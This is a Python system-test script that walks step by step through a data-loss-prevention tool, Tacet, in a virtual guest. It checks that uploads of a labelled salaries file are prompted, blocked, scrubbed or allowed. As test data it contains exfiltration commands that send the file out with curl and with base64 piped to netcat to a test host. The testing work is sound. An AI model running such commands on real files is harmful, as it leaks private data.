# SPDX-License-Identifier: GPL-3.0-or-later
"""The guided tour of `./dev run`: the scenario step by step in one guest, told in plain words, with pictures in out/."""

import argparse
import pathlib
import sys
import time

from guest import Guest
from machine import MachineError
from tests.system.leak_oracle import Secret
from tests.system.prompt import Prompt
from tests.system.remote import Remote
from tests.system.scene import Scene
from tests.system.tacet_cli import Tacet
from tests.system.widgets import Screen

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE.parents[1] / "out"
UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"


class Tour:
    """Tells the steps and keeps the pictures. Each step method returns nothing, and raises when what it tells does not hold."""

    def __init__(self, guest):
        self._guest = guest
        self._screen, self._remote = Screen(guest), Remote(guest)
        self._tacet, self._prompt = Tacet(guest), Prompt(guest, self._screen)
        self._scene = None
        self._pictures = 0

    def run(self):
        """Runs all steps; returns how many did not hold."""
        self._remote.start()
        steps = [self.unmarked, self.mark, self.block, self.scrub, self.allow, self.quit, self.pipe, self.copy, self.rule,
                 self.daemon_killed, self.nobody_there, self.window]
        failed = 0
        for number, step in enumerate(steps, 1):
            print(f"\n{number}. {step.__doc__}", flush=True)
            started = time.monotonic()
            # One file throughout, with a new secret whenever an earlier one may have gone out.
            self._renew()
            try:
                step()
                print(f"   as it should be ({time.monotonic() - started:.0f} s)", flush=True)
            except (AssertionError, MachineError) as error:
                failed += 1
                print(f"   NOT AS IT SHOULD BE: {error}\n   {self._scene.describe(self.picture('failed'))}", flush=True)
        self._screen.close()
        return failed

    def _renew(self):
        marked = self._scene is not None
        self._scene = Scene(self._guest, self._remote, self._tacet, self._prompt, self._screen, Secret())
        self._scene.folder, self._scene.file = "/home/anna/Documents", "/home/anna/Documents/salaries.csv"
        self._guest.run(["rm", "-f", self._scene.file], check=True)
        self._scene.open()
        if marked and self._scene_is_marked:
            self._scene.label()

    _scene_is_marked = False

    # --- telling ---

    def picture(self, name):
        """Saves the screen as the next numbered picture."""
        self._pictures += 1
        path = self._guest.screenshot(OUT / f"{self._pictures:02d}-{name}.png")
        print(f"   picture  {path.relative_to(OUT.parent)}", flush=True)
        return path

    def tell(self, what, text):
        """One line of the story."""
        print(f"   {what:8s} {text}", flush=True)

    def tell_arrival(self):
        """Tells how many bytes the remote host received."""
        received = self._remote.received
        leaked, size = self._scene.secret.leaked(received), self._scene.secret.size
        self.tell("remote", f"received {len(received)} bytes; {leaked} of the {size} bytes that must stay here are among them")

    def click(self, command, verdict, picture):
        """A program sends, the prompt appears, the person clicks."""
        self.tell("program", f"$ {command}")
        self._scene.secret.allowed = verdict == "allow"
        attempt = self._scene.start(command)
        self.tell("Tacet", f"asks: {self._prompt.wait()}")
        self.picture(picture)
        self.tell("person", f"clicks {verdict}")
        self._prompt.answer(verdict)
        done = attempt.finish()
        self.tell("program", f"ends with status {done.returncode}" + (f": {done.stderr.strip()}" if done.stderr.strip() else ""))
        self.tell_arrival()

    def answer(self, command, verdict):
        """The same, answered on the command line."""
        self.tell("program", f"$ {command}")
        question, _ = self._scene.send_and_answer(command, verdict)
        self.tell("Tacet", f"asks: {question['executable']} is about to send {question['length']} bytes derived from {question['file']}"
                           f" to {question['host']}:{question['port']}")
        self.tell("person", f"$ tacet breach answer {question['id']} {verdict}")
        self.tell_arrival()

    # --- the steps ---

    def unmarked(self):
        """A file that nobody marked is sent as ever."""
        self.tell("program", f"$ {UPLOAD}")
        self._scene.run(UPLOAD)
        self.tell_arrival()
        self._scene.assert_all_arrived()
        self._scene.assert_unasked()

    def mark(self):
        """Anna marks ~/Documents/salaries.csv as sensitive. Programs that stay on this computer notice nothing."""
        command = "tacet label add --category finance salaries.csv"
        self.tell("person", f"$ {command}")
        assert self._scene.run(command).returncode == 0
        self._scene_is_marked = True
        self.tell("program", "$ sha256sum salaries.csv >sums")
        assert self._scene.run("sha256sum salaries.csv >sums; rm sums").returncode == 0
        self._scene.assert_unasked()
        self.tell("Tacet", "asks nothing")

    def block(self):
        """curl sends the marked file: Tacet asks, and Anna blocks it."""
        self.click(UPLOAD, "block", "prompt")
        self._scene.assert_nothing_leaked()

    def scrub(self):
        """The same, and Anna lets the scrubbed copy go."""
        self.click(UPLOAD, "scrub", "prompt-scrub")
        self._scene.assert_scrubbed_arrived()

    def allow(self):
        """The same, and Anna allows it: now, and only now, the file arrives."""
        self.click(UPLOAD, "allow", "prompt-allow")
        self._scene.assert_all_arrived()

    def quit(self):
        """The same, and Anna quits the program."""
        self.click(UPLOAD, "quit", "prompt-quit")
        self._scene.assert_nothing_leaked()

    def pipe(self):
        """Through a pipe, in disguise: the label goes along."""
        self.answer("base64 salaries.csv | nc -N -w 90 remote 9", "block")
        self._scene.assert_nothing_leaked()

    def copy(self):
        """A copy of the file carries the label, too."""
        self.answer(f"cp salaries.csv copy && {UPLOAD.replace('salaries.csv', 'copy')}; rm copy", "block")
        self._scene.assert_nothing_leaked()

    def rule(self):
        """A rule, 'always block curl to remote': no question, but an entry in the log. Without the rule it is asked again."""
        words = ["rule", "add", "block", "--executable", "/usr/bin/curl", "--host", "remote"]
        self.tell("person", "$ tacet " + " ".join(words))
        rule = self._tacet.json(*words)["id"]
        self.tell("program", f"$ {UPLOAD}")
        self._scene.run(UPLOAD)
        assert self._scene.decisions() == [("rule", "block")], self._scene.decisions()
        self.tell("log", "the rule blocked it")
        self._tacet.run("rule", "remove", rule)
        self.answer(UPLOAD, "block")
        self._scene.assert_nothing_leaked()

    def daemon_killed(self):
        """The daemon is killed while the question is open: nothing leaks, and the next one asks again."""
        attempt = self._scene.start(UPLOAD)
        self._tacet.wait_question()
        self.tell("person", "$ kill -9 tacetd")
        self._guest.run("systemctl kill --signal=KILL tacetd", check=True)
        again = self._tacet.wait_question()
        self.tell("Tacet", "asks again")
        self._tacet.answer(again, "block")
        attempt.finish()
        self.tell_arrival()
        self._scene.assert_nothing_leaked()
        self._guest.wait_for(self._scene.app_is_agent, what="the app to register again")

    def nobody_there(self):
        """No app, nobody to ask: it is blocked, and logged as missed."""
        self._scene.stop_app()
        self.tell("program", f"$ {UPLOAD}")
        self._scene.run(UPLOAD)
        self.tell_arrival()
        self._scene.assert_nothing_leaked()
        assert self._scene.decisions() == [("missed", "block")], self._scene.decisions()
        self.tell("log", "blocked, as nobody was there to answer")
        self._scene.start_app()

    def window(self):
        """Afterwards Anna looks up what happened."""
        for page, shown in (("activity", "activityKind"), ("files", "filesCount")):
            self._guest.run(["tacet-app", "--show", page], session=True, check=True)
            self._screen.find(shown, "mainWindow")
            self.picture(f"window-{page}")


def main():
    """Returns the exit status: 0 only when each step held and the kernel's log is clean."""
    parser = argparse.ArgumentParser(prog="./dev run")
    parser.add_argument("--kernel", default="6.12")
    options = parser.parse_args()
    for old in OUT.glob("[0-9][0-9]-*.png"):
        old.unlink()
    with Guest(options.kernel, desktop="x11") as guest:
        print(f"Debian 13 with Tacet, kernel {options.kernel}: the desktop is up after {guest.start_seconds:.0f} s")
        failed = Tour(guest).run()
        faults = guest.faults()
    for line in faults:
        print(f"kernel log: {line}")
    print(f"\n{'Every step held.' if not failed else f'{failed} steps did not hold.'} Pictures: {OUT}")
    return 1 if failed or faults else 0


if __name__ == "__main__":
    sys.exit(main())
